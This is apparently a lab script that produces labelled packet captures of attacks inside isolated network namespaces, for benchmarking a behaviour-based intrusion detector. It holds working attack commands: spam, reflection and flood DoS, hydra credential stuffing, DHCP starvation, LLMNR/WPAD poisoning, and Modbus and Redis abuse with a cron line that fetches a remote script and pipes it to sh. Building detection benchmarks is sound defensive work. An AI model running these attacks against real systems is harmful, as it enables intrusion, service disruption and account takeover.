#!/usr/bin/env bash
# A THIRD fresh attack set ("f3-*"): tools and techniques the behaviour model was never tuned on, made with
# real tools between network namespaces. Same lab conventions as bench/behavior/gen-attacks.sh / gen-fresh.sh
# (attacker = the device 10.66.0.10 02:66:00:00:00:10, victim 10.66.0.20 02:66:00:00:00:20, dummies .31-.34,
# a routed "internet" 10.128.0.0/9 behind the victim, injected as peer `wan`), but its own namespaces
# (prefix f3-) and veth names (f3p-*), so it cannot collide with gen-attacks.sh's nmlb-*.
# tcpdump on the device's veth; OUT/attacks/<id>.pcap and OUT/attacks/index.jsonl (gen-attacks.sh's format).
# Every tool runs under `timeout`, every loop is bounded; namespaces are removed on exit.
#
# Usage: bash bench/behavior/fresh3/gen-fresh3.sh [--out DIR (default /work/behavior-bench-fresh3)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh3
HERE="$(cd "$(dirname "$0")" && pwd)"
TREE=${TREE:-$(cd "$HERE/../../.." && pwd)}
LAB=f3 GEN=gen-fresh3
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

# ---------- network ----------
lab_network
sleep 1

# ---------- "internet" hosts: addresses on the victim's lo ----------
# 10.128.60.1-30 mail servers (25, 587), 10.128.80.1-20 web servers (80), 10.128.70.77 a SIP PBX.
for i in $(seq 1 30); do ns vic ip addr add "10.128.60.$i/32" dev lo; done
for i in $(seq 1 20); do ns vic ip addr add "10.128.80.$i/32" dev lo; done
ns vic ip addr add 10.128.70.77/32 dev lo

# ---------- services ----------
[ -f "$W/tls.key" ] || openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=mail.example.test" \
  -keyout "$W/tls.key" -out "$W/tls.crt" >/dev/null 2>&1
cat "$W/tls.crt" "$W/tls.key" > "$W/tls.pem"
mkdir -p "$W/www" "$W/tftp" "$W/redis" "$W/snmp"
head -c 2000 /dev/urandom | base64 > "$W/www/index.html"
# web servers of the "internet" (and the victim's own address) on 80
ns vic busybox httpd -f -p 80 -h "$W/www" &
PIDS+=($!)
# HTTPS login form on the victim (POST always answers {"ack":1})
ns vic $PY "$TREE/bench/behavior/victim-httpd.py" "$VIC_IP" 443 "$W/tls.crt" "$W/tls.key" &
PIDS+=($!)
# mail servers on 25 and 587 of every 10.128.60.x (Python's smtpd, discards mail)
ns vic $PY -W ignore -c "
import smtpd, asyncore
class S(smtpd.SMTPServer):
    def process_message(self, *a, **k): return None
S(('0.0.0.0', 25), None); S(('0.0.0.0', 587), None)
asyncore.loop()" &
PIDS+=($!)
# SIP PBX
ns vic $PY "$HERE/sip-uas.py" 10.128.70.77 &
PIDS+=($!)
# TFTP server with two "dropper" binaries
head -c 180000 /dev/urandom > "$W/tftp/x86_64.bin"
head -c 120000 /dev/urandom > "$W/tftp/arm7.bin"
ns vic /usr/sbin/in.tftpd -L -s -a "$VIC_IP:69" "$W/tftp" &
PIDS+=($!)
# TLS server on 993 for the stunnel C2 (an operator handing out tasks)
cat > "$W/c2-operator.sh" <<'EOS'
for i in $(seq 1 14); do sleep 4; printf 'TASK %d %s\n' "$i" "$(head -c 24 /dev/urandom | base64 -w0)"; done
EOS
# neighbours: d31 SNMP agent (community "private"), d32 Redis (old-style: protected configs allowed),
# d33 a Modbus/TCP PLC, d34 nothing (answers with ICMP unreachables)
cat > "$W/snmp/snmpd.conf" <<EOF
agentAddress udp:$NET.31:161
rocommunity private default
rocommunity public default -V systemonly
view systemonly included .1.3.6.1.2.1.1
sysLocation server-room-2
sysContact admin@corp.example
EOF
ns d31 /usr/sbin/snmpd -f -Lo -C -c "$W/snmp/snmpd.conf" -p "$W/snmp/snmpd.pid" >"$W/snmpd.log" 2>&1 &
PIDS+=($!)
ns d32 redis-server --bind "$NET.32" --port 6379 --protected-mode no --enable-protected-configs yes \
  --dir "$W/redis" --save '' --daemonize no --logfile "$W/redis.log" &
PIDS+=($!)
ns d33 $PY "$HERE/modbus-srv.py" "$NET.33" &
PIDS+=($!)
# the device's own DNS server for the reflector id (started in the attacker namespace = the device)
BIGTXT=$(for i in $(seq 1 5); do printf '%s,' "$(head -c 180 /dev/urandom | base64 -w0 | head -c 240)"; done)
ns att /usr/sbin/dnsmasq -k --no-resolv --no-hosts --bind-interfaces --listen-address="$ATT_IP" --port=53 --edns-packet-max=4096 \
  --txt-record=big.example.test,${BIGTXT%,} --pid-file="$W/dnsmasq-att.pid" --user=root 2>"$W/dnsmasq.log" &
PIDS+=($!)
sleep 3

export NET VIC_IP ATT_IP W PY

# ---------- 1. SMTP spam bot (swaks): 40 mail servers on 25, 8 on 587 ----------
cat > "$W/spam.sh" <<'EOS'
n=0
for i in $(seq 1 30) 31 32 33 34 35 36 37 38 39 40; do
  n=$((n + 1))
  a=10.128.60.$i; [ "$i" -gt 30 ] && a=10.128.61.$((i * 7))      # 10 MX addresses that do not answer
  timeout 8 swaks --server "$a" --port 25 --timeout 4 --helo mail.example.net \
    --from "promo$n@deals.example.net" --to "user$((RANDOM % 900 + 100))@mx$i.example.org" \
    --header "Subject: Your invoice #$((RANDOM))" --body "Click http://bit.example/$RANDOM now" >/dev/null 2>&1 &
  [ $((n % 8)) -eq 0 ] && wait
  sleep 0.3
done
wait
for i in 3 6 9 12 15 18 21 24; do
  timeout 8 swaks --server 10.128.60.$i --port 587 --timeout 4 --from "x@deals.example.net" \
    --to "info@corp$i.example.org" --body "hello" >/dev/null 2>&1
done
EOS
CAP_WAN=$WAN cap f3-smtp-spambot spam swaks-smtp attacker wan false 150 bash "$W/spam.sh"
# quiet: 4 mails to 4 mail servers, one every 20 s
CAP_WAN=$WAN cap f3-smtp-quiet spam swaks-smtp-slow attacker wan false 120 bash -c \
  "for i in 4 11 17 26; do timeout 8 swaks --server 10.128.60.\$i --port 25 --timeout 4 --from news@deals.example.net --to ceo@mx\$i.example.org --body offer >/dev/null 2>&1; sleep 20; done"

# ---------- 2. residential proxy: microsocks on the device, an outside client relays 60 requests ----------
ns att timeout 200 microsocks -i "$ATT_IP" -p 1080 >/dev/null 2>&1 &
PIDS+=($!)
sleep 1
cat > "$W/proxy-client.sh" <<'EOS'
sleep 1
for i in $(seq 1 60); do
  curl -s -m 5 --socks5-hostname "$ATT_IP:1080" -o /dev/null "http://10.128.80.$(( (i * 7) % 20 + 1 ))/index.html?q=$i" &
  [ $((i % 6)) -eq 0 ] && wait
  sleep 0.$((RANDOM % 8 + 1))
done
wait
sleep 1
EOS
CAP_WAN=$WAN cap f3-proxy-socks proxy microsocks attacker wan false 120 ip netns exec f3-vic bash "$W/proxy-client.sh"
# quiet: 6 relayed page loads, 8 s apart (same proxy)
CAP_WAN=$WAN cap f3-proxy-socks-quiet proxy microsocks-slow attacker wan false 120 ip netns exec f3-vic bash -c \
  "for i in 2 5 9 13 17 20; do curl -s -m 5 --socks5-hostname $ATT_IP:1080 -o /dev/null http://10.128.80.\$i/; sleep 8; done"

# ---------- 3. SNMP community guessing on neighbours (onesixtyone), then a walk ----------
printf '%s\n' public private community admin manager snmp snmpd secret cisco default monitor write \
  read system root router switch mngt test guest ILMI cable-docsis security 0 1234 password tivoli \
  openview agent c0nf1g enable netman > "$W/communities.txt"
printf '%s\n' $NET.31 $NET.32 $NET.33 $NET.34 $NET.20 > "$W/snmp-hosts.txt"
cap f3-snmp-community lateral onesixtyone+snmpwalk attacker lan false 90 bash -c \
  "onesixtyone -c $W/communities.txt -i $W/snmp-hosts.txt -w 20; timeout 20 snmpwalk -v2c -c private -t 1 -r 0 $NET.31 .1.3.6.1.2.1.1; timeout 20 snmpwalk -v2c -c private -t 1 -r 0 $NET.31 .1.3.6.1.2.1.2.2 | head -60"

# ---------- 4. SIP scanning (sipvicious): svmap over 256 internet addresses, svwar on the PBX found ----------
CAP_WAN=$WAN cap f3-sip-svmap-svwar scan sipvicious-svmap-svwar attacker wan false 150 bash -c \
  "timeout 60 svmap -p 5060 10.128.70.0/24 -t 0.01; timeout 60 svwar -e 100-160 -m REGISTER 10.128.70.77 -t 0.05"

# ---------- 5. Modbus/TCP writes to a neighbour PLC (pymodbus client) ----------
cat > "$W/modbus.py" <<'EOS'
import os, random, time
from pymodbus.client import ModbusTcpClient
c = ModbusTcpClient(os.environ["NET"] + ".33", port=502, timeout=3)
c.connect()
print(c.read_holding_registers(0, 20))
print(c.read_coils(0, 16))
for i in range(16):
    c.write_coil(i, i % 2 == 0); time.sleep(0.2)
for k in range(5):
    c.write_registers(0, [random.randint(0, 65535) for _ in range(10)]); time.sleep(0.5)
c.write_register(100, 0xDEAD)
print(c.read_holding_registers(0, 20))
c.close()
EOS
cap f3-modbus-write lateral pymodbus-write attacker lan false 60 $PY "$W/modbus.py"

# ---------- 6. Redis abuse on a neighbour (redis-cli): recon, CONFIG SET dir/dbfilename, cron payload, SAVE ----------
cap f3-redis-cron lateral redis-cli-config-set attacker lan false 60 bash -c \
  "R='redis-cli -h $NET.32 -p 6379'; \$R INFO server | head -5; \$R CONFIG GET dir; \$R CONFIG SET dir $W/redis; \$R CONFIG SET dbfilename root; \$R SET x \$'\n\n*/1 * * * * curl -s http://203.0.113.7/x.sh | sh\n\n'; \$R SAVE; \$R KEYS '*'; \$R CONFIG SET dbfilename dump.rdb"

# ---------- 7. TFTP dropper (tftp-hpa): two binaries from a public server ----------
cap f3-tftp-dropper dropper tftp-hpa attacker public false 90 bash -c \
  "cd $W && timeout 40 tftp -m binary $VIC_IP -c get x86_64.bin /dev/null; timeout 40 tftp -m binary $VIC_IP -c get arm7.bin /dev/null"

# ---------- 8. TLS-wrapped C2 on 993 (stunnel client on the device) ----------
cat > "$W/stunnel-client.conf" <<EOF
foreground = yes
pid =
[c2]
client = yes
accept = 127.0.0.1:9993
connect = $VIC_IP:993
verifyChain = no
EOF
cat > "$W/bot-stunnel.sh" <<'EOS'
stunnel4 "$W/stunnel-client.conf" >/dev/null 2>&1 & S=$!
sleep 1
{ for i in $(seq 1 14); do printf 'HB %d up=%d\n' "$i" "$((i * 4))"; sleep 4; done; } | timeout 70 nc -q 2 127.0.0.1 9993 >/dev/null
sleep 1
kill $S
EOS
ns vic timeout 200 socat "OPENSSL-LISTEN:993,bind=$VIC_IP,reuseaddr,cert=$W/tls.crt,key=$W/tls.key,verify=0" \
  "SYSTEM:bash $W/c2-operator.sh" >/dev/null 2>&1 &
PIDS+=($!)
sleep 1
cap f3-stunnel-c2-993 c2 stunnel4-client attacker public false 100 bash "$W/bot-stunnel.sh"

# ---------- 9. DNS reflector: small spoofed TXT queries in (from the target's address), large answers out ----------
cat > "$W/reflect.py" <<'EOS'
import os, random, socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((os.environ["VIC_IP"], 0))
name = b"".join(bytes([len(p)]) + p for p in b"big.example.test".split(b".")) + b"\0"
edns = b"\0" + struct.pack(">HHIH", 41, 4096, 0, 0)   # OPT: 4096-byte UDP payload
for i in range(600):
    q = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 1) + name + struct.pack(">HH", 16, 1) + edns
    s.sendto(q, (os.environ["ATT_IP"], 53))
    time.sleep(0.04)
EOS
cap f3-dns-reflector dos dnsmasq-reflector+spoofed-queries attacker public false 90 ip netns exec f3-vic $PY "$W/reflect.py"

# ---------- 10. HTTP flood from the device (ApacheBench) ----------
cap f3-http-flood-ab dos apachebench attacker public false 60 ab -t 30 -n 4000 -c 40 -s 5 "http://$VIC_IP/index.html"

# ---------- 11. credential stuffing against a public HTTPS login form (hydra https-post-form) ----------
printf '%s\n' alice@example.com bob@example.com carol@example.com > "$W/stuff-users.txt"
seq 1 25 | awk '{printf "Summer%02d!\n", $1}' > "$W/stuff-pw.txt"
cap f3-cred-https-form credential hydra-https-post-form attacker public false 120 \
  hydra -L "$W/stuff-users.txt" -P "$W/stuff-pw.txt" -t 4 -I -s 443 -S "$VIC_IP" \
  https-post-form '/login:user=^USER^&pass=^PASS^:F=ack'

# ---------- 12. DHCP starvation (scapy; the device's own MAC, a random client hardware address each) ----------
cat > "$W/dhcp-starve.py" <<'EOS'
import random, time
from scapy.all import Ether, IP, UDP, BOOTP, DHCP, sendp
for i in range(150):
    ch = bytes(random.randint(0, 255) for _ in range(6))
    p = (Ether(src="02:66:00:00:00:10", dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
         / UDP(sport=68, dport=67) / BOOTP(chaddr=ch + b"\0" * 10, xid=random.randint(0, 2**32 - 1))
         / DHCP(options=[("message-type", "discover"), ("hostname", "android-%04x" % random.randint(0, 65535)), "end"]))
    sendp(p, iface="eth0", verbose=False)
    time.sleep(0.2)
EOS
cap f3-dhcp-starve dos scapy-dhcp-discover-flood attacker lan false 60 $PY "$W/dhcp-starve.py"


# ---------- 13. SSDP reflector: the device's UPnP responder answers spoofed unicast M-SEARCHes from a public address ----------
ns att $PY "$HERE/ssdp-responder.py" "$ATT_IP" &
PIDS+=($!)
sleep 1
cat > "$W/ssdp-spoof.py" <<'EOS'
import os, socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((os.environ["VIC_IP"], 0))
q = b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n'
for i in range(400):
    s.sendto(q, (os.environ["ATT_IP"], 1900)); time.sleep(0.05)
EOS
cap f3-ssdp-reflector dos ssdp-responder+spoofed-msearch attacker public false 60 ip netns exec f3-vic $PY "$W/ssdp-spoof.py"

# ---------- 14. LLMNR poisoning (Responder-like): the device answers a neighbour's 'wpad' lookups, serves wpad.dat ----------
mkdir -p "$W/wpad"
printf 'function FindProxyForURL(url, host) { return "PROXY %s:3128; DIRECT"; }\n' "$ATT_IP" > "$W/wpad/wpad.dat"
ns att busybox httpd -f -p "$ATT_IP:80" -h "$W/wpad" &
PIDS+=($!)
ns att $PY "$HERE/llmnr-responder.py" "$ATT_IP" &
PIDS+=($!)
sleep 1
cap f3-llmnr-wpad lateral llmnr-responder+wpad attacker lan false 90 ip netns exec f3-d31 $PY "$HERE/llmnr-victim.py" "$NET.31"

# ---------- 15. slow credential stuffing against a public HTTPS login form (hydra, one task, 5 s between tries) ----------
head -2 "$W/stuff-users.txt" > "$W/stuff-users2.txt"
head -10 "$W/stuff-pw.txt" > "$W/stuff-pw10.txt"
cap f3-cred-https-slow credential hydra-https-post-form-slow attacker public false 200 \
  hydra -L "$W/stuff-users2.txt" -P "$W/stuff-pw10.txt" -t 1 -c 5 -I -s 443 "$VIC_IP" \
  https-post-form '/login:user=^USER^&pass=^PASS^:F=ack'

# ---------- index ----------
lab_index
